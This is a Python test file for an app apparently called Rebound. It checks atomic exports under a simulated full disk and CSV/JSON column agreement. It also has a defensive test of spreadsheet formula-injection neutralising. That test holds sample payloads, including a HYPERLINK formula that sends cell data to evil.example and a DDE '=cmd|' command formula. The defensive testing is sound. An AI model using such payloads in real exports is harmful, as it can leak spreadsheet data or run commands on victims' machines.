"""Exports written safely and truthfully: atomic files (a full disk keeps the previous export),
spreadsheet formulas neutralised, and CSV columns that say what they hold."""

from __future__ import annotations

import csv
import errno
import os
from datetime import date, datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from tui.cli.main import main
from tui.core.clock import WEEKDAYS
from tui.demo import generate
from tui.services import Rebound
from tui.services import transfer
from tui.services.checkins import log, set_skip
from tui.services.contacts import ContactFields, add_contact, log_interaction
from tui.services.export_files import FORMULA_STARTS, csv_tables, safe_text, write_csv
from tui.services.goals import add_goal
from tui.services.mood import log_mood, log_rejection
from tui.services.wins import add_win
from tui.store import repo
from tui.store.repo import set_setting

NOW = datetime(2026, 11, 26, 9, 30, tzinfo=timezone.utc)


@pytest.fixture
def demo(tmp_path: Path) -> Rebound:
    rb = Rebound.open(tmp_path / "demo", lambda: NOW)
    generate(rb)
    set_skip(rb, repo.goals(rb.store)[0].id, date(2026, 11, 20), True)
    set_setting(rb.store, "week_start", 6)
    log_rejection(rb, "Fabrikam", role="Analyst", contact="Priya Raman", follow_up="in 1 week")
    return rb


def full_disk_after(monkeypatch: pytest.MonkeyPatch, budget: int) -> None:
    """``os.write`` writes ``budget`` bytes in all, then fails as a full disk does."""
    real_write = os.write
    left = [budget]

    def write(fd: int, data: Any) -> int:
        if left[0] <= 0:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        written = real_write(fd, bytes(data[: left[0]]))
        left[0] -= written
        return written

    monkeypatch.setattr(os, "write", write)


def temp_files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".tmp-" in p.name)


@pytest.mark.parametrize("fmt", ["json", "ics"])
def test_a_full_disk_keeps_the_previous_export_file_whole(
    demo: Rebound, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    fmt: str,
) -> None:
    out = tmp_path / "exports" / f"rebound.{fmt}"
    out.parent.mkdir()
    args = ["--data-dir", str(demo.store.folder), "export", "--format", fmt, "--out", str(out)]
    assert main(args) == 0
    previous = out.read_bytes()
    add_goal(demo, "Something new")  # the next export differs
    full_disk_after(monkeypatch, 100)
    assert main(args) == 1
    monkeypatch.undo()
    err = capsys.readouterr().err
    assert str(out) in err and "No space left on device" in err
    assert out.read_bytes() == previous
    assert temp_files(out.parent) == []


def test_a_full_disk_keeps_every_previous_csv_file_whole(
    demo: Rebound, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
) -> None:
    out = tmp_path / "sheets"
    args = ["--data-dir", str(demo.store.folder), "export", "--format", "csv", "--out", str(out)]
    assert main(args) == 0
    previous = {p.name: p.read_bytes() for p in out.iterdir()}
    add_goal(demo, "Something new")
    sizes = sorted(len(data) for data in previous.values())
    full_disk_after(monkeypatch, sum(sizes) - sizes[0] // 2)  # fails in the last file or so
    assert main(args) == 1
    monkeypatch.undo()
    assert "No space left on device" in capsys.readouterr().err
    assert {p.name: p.read_bytes() for p in out.iterdir()} == previous
    assert temp_files(out) == []


# Formula injection (OWASP: prefix ' to a text cell starting with = + - @ tab or CR) ----------
def test_safe_text_neutralises_every_formula_start() -> None:
    for start in FORMULA_STARTS:
        assert safe_text(f"{start}1+1") == f"'{start}1+1"
    assert safe_text("plain, text") == "plain, text"
    assert safe_text("'already quoted") == "'already quoted"
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formulas_in_names_notes_and_tags_are_written_as_text(tmp_path: Path) -> None:
    rb = Rebound.open(tmp_path / "data", lambda: NOW)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    contact = add_contact(rb, ContactFields(evil, company="@SUM(A1:A9)", role="+role"))
    log_interaction(rb, contact.id, kind="email", note="=cmd|'/c calc'!A1")
    goal = add_goal(rb, "-minus goal")
    log(rb, goal.id, 3)
    log(rb, goal.id, -1, note="@oops")
    log_mood(rb, 3, tags="=tag,ok", note="+note")
    add_win(rb, "=1+1 win", NOW.date())
    write_csv(rb, tmp_path / "csv")
    contacts = read_csv(tmp_path / "csv" / "contacts.csv")[0]
    assert (contacts["name"], contacts["company"], contacts["role"]) == ("'" + evil, "'@SUM(A1:A9)", "'+role")
    interaction = read_csv(tmp_path / "csv" / "interactions.csv")[0]
    assert interaction["note"] == "'=cmd|'/c calc'!A1" and interaction["contact"] == "'" + evil
    checkins = read_csv(tmp_path / "csv" / "checkins.csv")
    assert [c["count"] for c in checkins] == ["3", "-1"]  # our own numbers stay numbers
    assert checkins[1]["note"] == "'@oops" and checkins[0]["goal"] == "'-minus goal"
    mood = read_csv(tmp_path / "csv" / "mood.csv")[0]
    assert (mood["tags"], mood["note"]) == ("'=tag,ok", "'+note")
    assert read_csv(tmp_path / "csv" / "wins.csv")[-1]["title"] == "'=1+1 win"
    for path in (tmp_path / "csv").glob("*.csv"):  # no text cell anywhere starts a formula
        for row in read_csv(path):
            assert not any(v.startswith(FORMULA_STARTS) and not v.lstrip("-").isdecimal()
                           for v in row.values()), (path.name, row)


# Truthful columns: every CSV column read back equals the JSON export ------------------------
def unsafe(text: str) -> str:
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text


def expected_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return ",".join(str(v) for v in value)
    return str(value)


def test_every_csv_column_matches_the_json_export(demo: Rebound, tmp_path: Path) -> None:
    records: dict[str, list[dict[str, Any]]] = {}
    for tables in transfer.export_data(demo)["records"].values():
        for table, docs in tables.items():
            records.setdefault(table, []).extend(docs)
    by_id = {d["id"]: (table, d) for table, docs in records.items() for d in docs}
    written = write_csv(demo, tmp_path / "csv")
    assert {p.stem for p in written} == set(records)
    kinds = {"goals": "goal", "contacts": "contact", "rejections": "rejection",
             "applications": "application"}
    checked: set[tuple[str, str]] = set()
    for path in written:
        table = path.stem
        with path.open(encoding="utf-8", newline="") as handle:
            header = next(csv.reader(handle))
        assert len(header) == len(set(header)), f"{path.name} repeats a column: {header}"
        rows = read_csv(path)
        docs = records[table]
        assert [r["id"] for r in rows] == [d["id"] for d in docs]
        for row, doc in zip(rows, docs):
            for column, cell in row.items():
                cell = unsafe(cell)
                checked.add((table, column))
                if column in doc and (table, column) == ("goals", "weekdays"):
                    assert cell == ",".join(WEEKDAYS[d] for d in sorted(doc[column]))
                elif column in doc and (table, column) == ("settings", "week_start"):
                    assert cell == WEEKDAYS[doc[column]]
                elif (table, column) == ("applications", "history"):  # "applied 2026-11-12; screen …"
                    assert cell == "; ".join(f"{stage} {day}" for stage, day in doc[column])
                elif (table, column) == ("applications", "contact_names"):
                    assert cell == ", ".join(by_id[c][1]["name"] for c in doc["contacts"])
                elif column in doc:
                    assert cell == expected_cell(doc[column]), (table, column)
                elif table == "wins" and column.startswith("subject"):
                    subject = by_id.get(doc.get("goal_id") or "")
                    kind, title = ("", "") if subject is None else (
                        kinds[subject[0]], subject_title(subject[1]))
                    want = {"subject_id": doc.get("goal_id") or "", "subject_kind": kind, "subject": title}
                    assert cell == want[column], (column, doc)
                else:  # a name column beside a reference
                    reference = doc.get(f"{column}_id")
                    assert f"{column}_id" in doc, f"{table}.{column} is in no record"
                    assert cell == (by_id[reference][1]["name"] if reference else ""), (table, column)
                    assert by_id[reference][0] == column + "s" if reference else True
    # the columns the issue named, and every kind of subject a win can have
    assert {("wins", "subject_kind"), ("checkins", "goal"), ("interactions", "contact"),
            ("rejections", "contact"), ("goals", "weekdays"), ("settings", "week_start"),
            ("applications", "history"), ("applications", "contact_names")} <= checked
    headers = {table: header for table, (header, _) in csv_tables(demo).items()}
    assert "goal_id" not in headers["wins"] and "mood" not in headers["rejections"]
    wins = read_csv(tmp_path / "csv" / "wins.csv")
    assert {"goal", "contact", "rejection", "application", ""} <= {w["subject_kind"] for w in wins}


def subject_title(doc: dict[str, Any]) -> str:
    if "name" in doc:
        return str(doc["name"])
    return " · ".join(doc[k] for k in ("company", "role") if doc.get(k))
